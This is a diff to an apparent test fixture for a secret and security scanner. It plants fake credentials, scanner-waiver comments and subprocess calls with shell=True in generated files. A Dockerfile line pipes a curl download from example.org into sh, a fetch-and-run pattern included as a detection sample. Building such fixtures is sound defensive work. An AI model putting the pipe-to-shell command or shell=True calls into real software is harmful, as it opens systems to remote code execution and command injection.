@@ -57,6 +57,11 @@ class Planted:
         self.files["conf/app.yaml"] = f'database:\n  db_password: "{make("yaml", 20)}"\n'
         self.files[".env"] = f"SECRET_KEY='{make('dotenv', 24)}'\n"
         self.files["conf/app.json"] = f'{{\n  "api_key": "{make("json", 24)}"\n}}\n'
+        waiver = f"scangate: ignore[bandit:B6*] -- password={make('waiver', 20)}, token {make('waiver token', 36)}"
+        odd = f"scangate: ignore[bandit:B602, x:{make('waiver rule', 24)}, {make('waiver name', 24)}] -- see {url}"
+        calls = f"subprocess.call(x, shell=True)  # {waiver}\n# {odd}\nsubprocess.call(x, shell=True)\n"
+        dummy = f'db_password = "{make("waived", 20)}"  # scangate: ignore[bandit:B1*] -- a dummy\n'
+        self.files["src/waived.py"] = f"import subprocess\n{calls}{dummy}"
         self.files["Dockerfile"] = f"FROM python:3.12\nENV DB_PASSWORD={make('docker', 20)}\nRUN curl http://example.org/x | sh\n"
         self.files["src/login.py"] = f'password = "{make("b105", 20)}"\nconnect(password="{make("b106", 20)}")\n'
         self.files["requirements.txt"] = (
